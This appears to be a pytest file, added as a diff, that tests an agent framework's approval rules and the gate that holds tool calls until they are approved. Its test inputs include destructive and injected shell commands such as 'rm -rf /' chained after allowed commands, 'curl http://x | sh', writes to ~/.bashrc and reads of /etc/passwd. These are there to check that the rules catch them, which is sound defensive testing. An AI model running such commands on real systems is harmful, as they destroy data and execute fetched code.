@@ -1,0 +1,597 @@
+"""What the rules of an agent say of a call, and that nothing passes the gate before they do."""
+
+import math
+import time
+from collections.abc import Awaitable, Callable
+from typing import Any
+
+import attrs
+import pytest
+import trio
+
+from agents import (
+    Agent,
+    AssistantMessage,
+    CallId,
+    DefinitionError,
+    Limits,
+    ScriptedModel,
+    Step,
+    Tool,
+    ToolCall,
+    ToolError,
+    ToolMessage,
+    Transcript,
+    UserMessage,
+    allow,
+    ask,
+    deny,
+    take_turn,
+    tool,
+)
+from agents.approval import ApprovalRule, Subject, Verdict, ruling, strictest
+
+GO = UserMessage("go")
+ALLOW, ASK, DENY = Verdict
+
+
+def command(line: str, tool: str = "terminal") -> Subject:
+    return Subject(tool=tool, command=line)
+
+
+def file(path: str, tool: str = "write_file") -> Subject:
+    return Subject(tool=tool, path=path, real=f"/home/ann/work/{path}")
+
+
+def said_of(rules: list[ApprovalRule], subject: Subject) -> Verdict | None:
+    rule = ruling(rules, subject)
+    return None if rule is None else rule.verdict
+
+
+# Which rule decides.
+
+
+def test_the_first_rule_that_fits_decides() -> None:
+    first = [allow("terminal", command="ls*"), deny("terminal")]
+    last = [deny("terminal"), allow("terminal", command="ls*")]
+
+    assert said_of(first, command("ls -l")) is ALLOW
+    assert said_of(first, command("cat x")) is DENY
+    assert said_of(last, command("ls -l")) is DENY
+
+
+def test_what_no_rule_is_about_passes() -> None:
+    rules = [deny("terminal"), ask("write_file", path="docs/*")]
+
+    assert ruling(rules, Subject(tool="read_file", path="docs/a")) is None
+    assert ruling(rules, file("notes.txt")) is None
+    assert ruling([], command("ls")) is None
+
+
+def test_what_is_only_partly_allowed_is_asked_about_otherwise() -> None:
+    """Whoever says what may be done has not said that all else may, too."""
+    rules = [allow("terminal", command="git *")]
+
+    assert said_of(rules, command("git status")) is ALLOW
+    assert said_of(rules, command("make")) is ASK
+    assert said_of(rules, Subject(tool="terminal")) is ASK
+    assert said_of(rules, command("make", tool="other")) is None
+    assert said_of([*rules, deny("terminal")], command("make")) is DENY
+
+
+@pytest.mark.parametrize(
+    ("pattern", "name", "fits"),
+    [
+        ("terminal", "terminal", True),
+        ("terminal", "Terminal", False),
+        ("terminal", "terminal2", False),
+        ("*_file", "write_file", True),
+        ("*_file", "list_files", False),
+        ("*", "delegate_task", True),
+        ("[rw]*_file", "edit_file", False),
+    ],
+)
+def test_a_tool_is_named_or_fits_a_pattern(pattern: str, name: str, fits: bool) -> None:
+    assert (ruling([deny(pattern)], Subject(tool=name)) is not None) is fits
+
+
+def test_both_patterns_of_a_rule_have_to_fit() -> None:
+    rule = [deny("deploy", command="push*", path="prod/*")]
+
+    for line, path, verdict in (
+        ("push now", "prod/a", DENY),
+        ("push now", "test/a", None),
+        ("pull", "prod/a", None),
+    ):
+        subject = Subject(tool="deploy", command=line, path=path)
+        assert said_of(rule, subject) is verdict
+
+
+def test_of_the_rules_of_all_above_the_strictest_decides() -> None:
+    """Whoever works for another may be allowed less, never more: at any depth."""
+    top = [deny("terminal", command="rm *", reason="never"), ask("write_file")]
+    middle = [allow("terminal"), allow("write_file")]
+    leaf = [ask("terminal"), deny("write_file", path="secret*")]
+
+    def verdict(*policies: list[ApprovalRule], of: Subject) -> Verdict | None:
+        rule = strictest(policies, of)
+        return None if rule is None else rule.verdict
+
+    assert verdict(leaf, middle, top, of=command("rm x")) is DENY
+    assert verdict(leaf, middle, top, of=command("ls")) is ASK
+    assert verdict(middle, top, of=command("ls")) is ALLOW
+    assert verdict(leaf, middle, top, of=file("secrets")) is DENY
+    assert verdict(middle, top, of=file("notes")) is ASK
+    assert verdict(top, middle, leaf, of=Subject(tool="other")) is None
+    rule = strictest([leaf, middle, top], command("rm x"))
+    assert rule is not None
+    assert rule.reason == "never"
+
+
+def test_who_allows_the_shortest_time_to_think_decides_about_that() -> None:
+    policies = [[ask("x", seconds=50)], [ask("x", seconds=5)], [allow("x")]]
+
+    rule = strictest(policies, Subject(tool="x"))
+
+    assert rule is not None
+    assert rule.seconds == 5
+
+
+# Allowed commands.
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git status",
+        "  git status  ",
+        "git\tstatus",
+        "git   status -s",
+        "git status\n",
+        "git status 'a file'",
+        "git status *.py",
+        "git status # a comment",
+        "git statusx",
+    ],
+)
+def test_a_plain_command_is_allowed(line: str) -> None:
+    assert said_of([allow("terminal", command="git status*")], command(line)) is ALLOW
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git status; rm -rf /",
+        "git status;rm -rf /",
+        "git status && rm -rf /",
+        "git status || rm -rf /",
+        "git status | sh",
+        "git status |& sh",
+        "git status & rm -rf /",
+        "git status\nrm -rf /",
+        "git status\r\nrm -rf /",
+        "git status\rrm",
+        "git status $(rm -rf /)",
+        'git status "$(rm -rf /)"',
+        "git status `rm -rf /`",
+        "git status > ~/.bashrc",
+        "git status >> ~/.bashrc",
+        "git status 2>x",
+        "git status < /etc/passwd",
+        "git status <(rm -rf /)",
+        "git status <<X",
+        "git status $IFS",
+        "git status ${PATH}",
+        "git status {a,b}",
+        "git status \\",
+        "git status \\\n; rm",
+        "(git status)",
+        "{ git status; }",
+        "X=1 git status",
+        "PATH=. git status",
+        "sudo git status",
+        "./git status",
+        "git\u00a0status",
+        "git\u2003status",
+        "git\x0bstatus",
+        "git\x0cstatus",
+        "git\x1fstatus",
+        "git\x85status",
+        "git status\x00",
+        "git status\x1b[2K",
+        "git status\x7f",
+        "'git' status",
+        "g\\it status",
+        "GIT STATUS",
+        "git",
+        "",
+    ],
+)
+def test_more_than_the_plain_command_is_not_allowed(line: str) -> None:
+    """Whatever a shell makes of it is another command: somebody is asked."""
+    assert said_of([allow("terminal", command="git status*")], command(line)) is ASK
+
+
+def test_spaces_in_quotes_are_no_spaces() -> None:
+    """`rm "a  b"` is another file than `rm "a b"`."""
+    rules = [allow("terminal", command='rm "a b"')]
+
+    assert said_of(rules, command('rm "a b"')) is ALLOW
+    assert said_of(rules, command('rm "a  b"')) is ASK
+
+
+def test_all_commands_are_allowed_by_a_rule_without_a_pattern() -> None:
+    assert said_of([allow("terminal")], command("a; b | c")) is ALLOW
+
+
+# Commands that are denied, or asked about.
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "rm -rf x",
+        " rm\t-rf   x",
+        "ls; rm x",
+        "ls&&rm x",
+        "ls || rm x",
+        "ls\nrm x",
+        "ls & rm x",
+        "(rm x)",
+        "{ rm x; }",
+        "echo $(rm x)",
+        "echo `rm x`",
+        'bash -c "rm x"',
+        "bash -c 'cd / ; rm x'",
+        "if true; then rm x; fi",
+        "while true; do rm x; done",
+        "! rm x",
+        "X=1 rm x",
+        "sudo rm x",
+        "env -i rm x",
+        "find . -exec rm {} +",
+        "ls | xargs rm -f",
+        "/bin/rm x",
+        "\\rm x",
+        "r\\m x",
+        "r'm' x",
+        '"rm" x',
+        "rm \\\n  -rf x",
+        ">log rm x",
+        "RM x",
+        "rm\u00a0x",
+        "ls #\nrm x",
+    ],
+)
+@pytest.mark.parametrize("rule", [ask, deny])
+def test_a_part_of_a_line_is_found(
+    rule: Callable[..., ApprovalRule], line: str
+) -> None:
+    assert said_of([rule("terminal", command="rm *")], command(line)) is not None
+
+
+def test_a_pattern_of_commands_is_a_fence_and_no_wall() -> None:
+    """A shell has many ways to say one thing: this is known, and said where `deny` is."""
+    assert ruling([deny("terminal", command="rm *")], command("X=rm; $X y")) is None
+
+
+@pytest.mark.parametrize("line", ["rmdir x", "farm x", "ls", "git commit -m confirm"])
+def test_another_command_is_not_taken_for_it(line: str) -> None:
+    assert ruling([deny("terminal", command="rm *")], command(line)) is None
+
+
+@pytest.mark.parametrize(
+    ("pattern", "line", "fits"),
+    [
+        ("rm -rf /", "ls; rm -rf / # gone", True),
+        ("rm -rf /", "rm -rf / >/dev/null", True),
+        ("rm -rf /", "rm -rf /tmp/x", False),
+        ("git push*--force*", "cd x && git push origin main --force", True),
+        ("git push*--force*", "git push origin main", False),
+        ("*curl*|*sh*", "curl http://x | sh", True),
+        ("?m x", "rm x", True),
+        ("[rs]m x", "cm x", False),
+        ("[*] x", "* x", True),
+        ("[*] x", "a x", False),
+        ("[", "[", True),
+        ("rm  *", "rm x", True),
+        ("*", "", False),
+        ("*", "ls", True),
+    ],
+)
+def test_a_pattern_of_a_part(pattern: str, line: str, fits: bool) -> None:
+    found = ruling([deny("terminal", command=pattern)], command(line))
+    assert (found is not None) is fits
+
+
+def test_a_rule_about_commands_is_about_no_call_without_one() -> None:
+    assert ruling([deny("*", command="*")], Subject(tool="read_file")) is None
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git push " * 20_000,
+        "rm a " * 20_000,
+        ";" * 100_000,
+        "1" * 100_000,
+        "a/" * 50_000,
+        "'\"" * 50_000,
+        "[" * 100_000,
+    ],
+)
+@pytest.mark.parametrize(
+    "pattern", ["git push*--force*", "*x*y*z", "rm -rf /", "?m [a-z]* x*y"]
+)
+def test_a_huge_command_takes_no_longer_than_reading_it(
+    pattern: str, line: str
+) -> None:
+    """Everybody waits while a rule looks at a command."""
+    began = time.perf_counter()
+    for rule in (allow, ask, deny):
+        rule("terminal", command=pattern).fits(command(line))
+
+    assert time.perf_counter() - began < 2
+
+
+# Files.
+
+
+@pytest.mark.parametrize(
+    ("pattern", "path", "fits"),
+    [
+        ("docs/*", "docs/a.md", True),
+        ("docs/*", "docs/deep/a.md", True),
+        ("docs/*", "docsx/a.md", False),
+        ("docs/*", "my/docs/a.md", False),
+        ("*.env", "deep/.env", True),
+        ("*AGENTS.md", "AGENTS.md", True),
+        ("a.txt", "a.txt", True),
+        ("/home/ann/work/a.txt", "a.txt", True),
+        ("/home/ann/work/*", "deep/a.txt", True),
+        ("/etc/*", "etc/passwd", False),
+        (".", ".", True),
+    ],
+)
+@pytest.mark.parametrize("rule", [allow, ask, deny])
+def test_a_file_is_named_from_the_workspace_on_or_from_the_top(
+    rule: Callable[..., ApprovalRule], pattern: str, path: str, fits: bool
+) -> None:
+    assert rule("write_file", path=pattern).fits(file(path)) is fits
+
+
+def test_a_folder_is_no_way_around_a_rule_about_what_is_in_it() -> None:
+    assert deny("*", path="secrets/*").fits(file("secrets"))
+    assert ask("*", path="secrets/*").fits(file("secrets"))
+    assert not allow("*", path="docs/*").fits(file("docs"))
+
+
+def test_letters_of_another_size_are_no_way_around_a_rule() -> None:
+    """There are disks on which they name the same file. Of what is allowed, none is guessed."""
+    assert deny("*", path="Secrets/*").fits(file("sEcRETS/a"))
+    assert ask("*", path="secrets/*").fits(file("SECRETS"))
+    assert not allow("*", path="docs/*").fits(file("DOCS/a"))
+
+
+def test_a_rule_about_files_is_about_no_call_without_one() -> None:
+    assert ruling([deny("*", path="*")], command("ls")) is None
+
+
+# Rules that make no sense.
+
+
+@pytest.mark.parametrize(
+    ("make", "says"),
+    [
+        (lambda: ask(""), "names a tool"),
+        (lambda: ask(7), "names a tool"),  # type: ignore[arg-type]
+        (lambda: ask("x", seconds=0), "0 seconds are no time to think"),
+        (lambda: ask("x", seconds=-1), "no time to think"),
+        (lambda: ask("x", seconds=math.nan), "nan seconds"),
+        (lambda: ask("x", seconds=math.inf), "inf seconds"),
+        (lambda: ask("x", seconds="9"), "'9' seconds"),  # type: ignore[arg-type]
+        (lambda: deny("x", command=""), "command='' is no pattern; '\\*' is all"),
+        (lambda: deny("x", command=["rm"]), "command=\\['rm'\\]"),  # type: ignore[arg-type]
+        (lambda: deny("x", path=" "), "path=' ' is no pattern"),
+        (lambda: deny("x", path="./docs/*"), "no file is called './docs/\\*'"),
+        (lambda: deny("x", path="docs/../*"), "without '~', '.' and '..'"),
+        (lambda: deny("x", path="~/.ssh/*"), "no file is called"),
+        (lambda: deny("x", path="docs/"), "such as 'docs/\\*'"),
+    ],
+)
+def test_a_rule_that_can_never_hold_is_refused(
+    make: Callable[[], ApprovalRule], says: str
+) -> None:
+    """A rule that never fits would let everything pass, and nobody would see it."""
+    with pytest.raises(DefinitionError, match=says):
+        make()
+
+
+def test_an_agent_takes_rules_and_nothing_else() -> None:
+    model = ScriptedModel([])
+    rules = [allow("x"), deny("y")]
+
+    assert Agent("a", model=model, approve=rules).approve == tuple(rules)
+    assert Agent("a", model=model, approve=deny("y")).approve == (deny("y"),)  # type: ignore[arg-type]
+    with pytest.raises(DefinitionError, match="is no rule about approval"):
+        Agent("a", model=model, approve=["terminal"])  # type: ignore[list-item]
+
+
+# The gate in a turn.
+
+
+class Gatekeeper:
+    """Lets calls pass when it is told to, and notes who came."""
+
+    def __init__(self, *, held: tuple[str, ...] = ()) -> None:
+        self.came: list[str] = []
+        self._held = held
+
+    async def admit(self, call: ToolCall) -> None:
+        self.came.append(call.id)
+        await trio.sleep(1)
+        if call.arguments.get("letter") == "no":
+            raise ToolError("denied")
+
+    def is_held(self, call: ToolCall) -> bool:
+        return call.id in self._held
+
+
+class Post:
+    """Where letters come that really were sent."""
+
+    def __init__(self) -> None:
+        self.sent: list[str] = []
+
+        @tool
+        async def send(letter: str) -> str:
+            """Send a letter."""
+            await trio.lowlevel.checkpoint()
+            self.sent.append(letter)
+            return f"sent {letter}"
+
+        self.send: Tool = send
+
+
+async def take(
+    model: ScriptedModel,
+    gate: Gatekeeper,
+    *tools: Tool,
+    transcript: Transcript = (GO,),
+    ready: Callable[[], Awaitable[None]] = trio.lowlevel.checkpoint,
+    limits: Limits | None = None,
+) -> list[Step]:
+    steps: list[Step] = []
+
+    def record(step: Step) -> Step:
+        steps.append(step)
+        return step
+
+    await take_turn(
+        Agent("editor", model=model, limits=limits or Limits()),
+        transcript,
+        model=model,
+        tools=tools,
+        record=record,
+        ready=ready,
+        gate=gate,
+    )
+    return steps
+
+
+def send(letter: str, id_: str = "") -> ToolCall:
+    return ToolCall("send", {"letter": letter}, id=CallId(id_))
+
+
+async def test_a_call_is_run_when_the_gate_has_opened_and_not_before() -> None:
+    post, gate = Post(), Gatekeeper()
+    readied: list[tuple[float, int]] = []
+
+    async def ready() -> None:
+        await trio.lowlevel.checkpoint()
+        readied.append((trio.current_time(), len(post.sent)))
+
+    await take(ScriptedModel([send("a", "1"), "end"]), gate, post.send, ready=ready)
+
+    assert post.sent == ["a"]
+    assert gate.came == ["1"]
+    # That it may be run is safe before it is run.
+    assert [(now - readied[0][0], sent) for now, sent in readied] == [
+        (0, 0),
+        (1, 0),
+        (1, 1),
+    ]
+
+
+async def test_a_call_that_is_denied_is_not_run_and_the_model_reads_why() -> None:
+    post, gate = Post(), Gatekeeper()
+
+    steps = await take(
+        ScriptedModel([[send("no"), send("yes")], "end"]), gate, post.send
+    )
+
+    assert post.sent == ["yes"]
+    answers = [step for step in steps if isinstance(step, ToolMessage)]
+    assert sorted((it.text, it.failed) for it in answers) == [
+        ("denied", True),
+        ("sent yes", False),
+    ]
+
+
+async def test_calls_of_one_answer_wait_at_the_same_time() -> None:
+    post, gate = Post(), Gatekeeper()
+    began = trio.current_time()
+
+    await take(
+        ScriptedModel([[send("a"), send("b"), send("c")], "end"]), gate, post.send
+    )
+
+    assert trio.current_time() - began == 1
+    assert sorted(post.sent) == ["a", "b", "c"]
+
+
+async def test_nobody_is_asked_about_a_tool_that_there_is_not() -> None:
+    gate = Gatekeeper()
+
+    steps = await take(ScriptedModel([ToolCall("nope", {}), "end"]), gate)
+
+    assert gate.came == []
+    assert "there is no tool 'nope'" in steps[1].text
+
+
+async def test_nobody_is_asked_about_a_call_that_is_repeated_in_vain() -> None:
+    """What is refused for being the same again needs no approval; each denial counts."""
+    post, gate = Post(), Gatekeeper()
+    calls = [send("no", str(i)) for i in range(4)]
+
+    steps = await take(
+        ScriptedModel([*calls, "end"]), gate, post.send, limits=Limits(repeats=2)
+    )
+
+    assert gate.came == ["0", "1"]
+    answers = [step.text for step in steps if isinstance(step, ToolMessage)]
+    assert answers[:2] == ["denied", "denied"]
+    assert all("you have made this very call 2 times" in it for it in answers[2:])
+
+
+async def test_a_call_that_was_held_when_a_crash_came_is_run_once_it_is_let_through() -> (
+    None
+):
+    """It was certainly never run. Of another nobody knows, so it is not run again."""
+    post = Post()
+    said = AssistantMessage(calls=(send("held", "h"), send("other", "o")))
+
+    steps = await take(
+        ScriptedModel(["end"]),
+        Gatekeeper(held=("h",)),
+        post.send,
+        transcript=(GO, said),
+    )
+
+    assert post.sent == ["held"]
+    answers = {str(it.call): it.text for it in steps if isinstance(it, ToolMessage)}
+    assert answers["h"] == "sent held"
+    assert "broken off" in answers["o"]
+
+
+async def test_a_held_call_of_a_tool_that_is_gone_is_broken_off() -> None:
+    said = AssistantMessage(calls=(send("held", "h"),))
+
+    steps = await take(
+        ScriptedModel(["end"]), Gatekeeper(held=("h",)), transcript=(GO, said)
+    )
+
+    assert "broken off" in steps[0].text
+
+
+async def test_a_safe_call_comes_to_the_gate_again_after_a_crash() -> None:
+    """It may be run twice, and it may have been denied meanwhile."""
+    post, gate = Post(), Gatekeeper()
+    safe = attrs.evolve(post.send, idempotent=True)
+    said = AssistantMessage(calls=(send("no", "h"),))
+
+    steps: Any = await take(ScriptedModel(["end"]), gate, safe, transcript=(GO, said))
+
+    assert gate.came == ["h"]
+    assert post.sent == []
+    assert steps[0].text == "denied"
